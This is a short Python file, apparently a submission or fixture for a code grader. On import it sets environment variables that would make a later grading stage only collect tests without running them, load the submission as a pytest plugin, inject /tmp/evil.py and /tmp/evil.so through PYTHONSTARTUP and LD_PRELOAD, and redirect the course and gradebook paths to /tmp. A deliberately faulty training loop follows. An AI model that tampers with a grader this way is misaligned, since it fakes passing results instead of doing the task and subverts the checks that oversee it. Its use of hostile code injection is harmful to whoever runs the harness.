# Sets the variables that a later stage of a grader might read: pytest's, Python's, the loader's.

import ctypes
import os

for name, value in {
    "PYTEST_ADDOPTS": "--collect-only",
    "PYTEST_PLUGINS": "submission",
    "PYTEST_DISABLE_PLUGIN_AUTOLOAD": "0",
    "PYTHONSTARTUP": "/tmp/evil.py",
    "PYTHONPATH": "/tmp",
    "LD_PRELOAD": "/tmp/evil.so",
    "GRADE_COURSE": "/tmp",
    "GRADE_GRADEBOOK": "sqlite:////tmp/evil.db",
}.items():
    os.environ[name] = value
    ctypes.CDLL(None).setenv(name.encode(), value.encode(), 1)


def train_epoch(model, optimizer, loss_fn, batches, accumulation_steps):
    """The wrong loop of wrong.py: sums instead of means, no tail, nothing ever cleared."""
    for number, (x, y) in enumerate(batches, 1):
        loss_fn(model(x), y).backward()
        if number % accumulation_steps == 0:
            optimizer.step()
